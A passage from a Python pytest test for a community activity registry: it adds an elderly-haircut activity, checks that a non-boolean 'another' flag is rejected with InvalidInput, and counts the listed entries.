    registry.add_activity(street, ACTOR, title="助老理发", category="daily_care", date="2026-11-21", place="西小河社区")
    with pytest.raises(InvalidInput, match="another must be true or false"):
        registry.add_activity(street, ACTOR, title="助老理发", category="daily_care", date="2026-11-22", another="yes")
    assert [a["title"] for a in registry.list_activities(street)].count("助老理发") == 4
